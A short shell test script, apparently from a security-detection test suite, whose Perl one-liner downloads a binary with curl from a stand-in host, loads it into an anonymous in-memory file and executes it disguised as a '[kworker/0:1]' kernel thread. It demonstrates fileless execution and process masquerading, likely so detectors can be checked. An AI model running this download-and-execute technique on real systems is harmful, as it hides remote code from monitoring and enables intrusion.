#!/bin/sh
. /opt/case/case.sh

perl -e '
my $name = "kworker";
my $fd = syscall(319, $name, 1);
open(my $out, ">&=", $fd) or die;
binmode $out;
open(my $in, "-|", "curl -s http://203.0.113.10/programs/marker") or die;
binmode $in;
local $/; print $out scalar <$in>;
$out->flush();
use IO::Handle;
exec { "/proc/$$/fd/$fd" } "[kworker/0:1]";' || true
test -e /tmp/reached
took_place
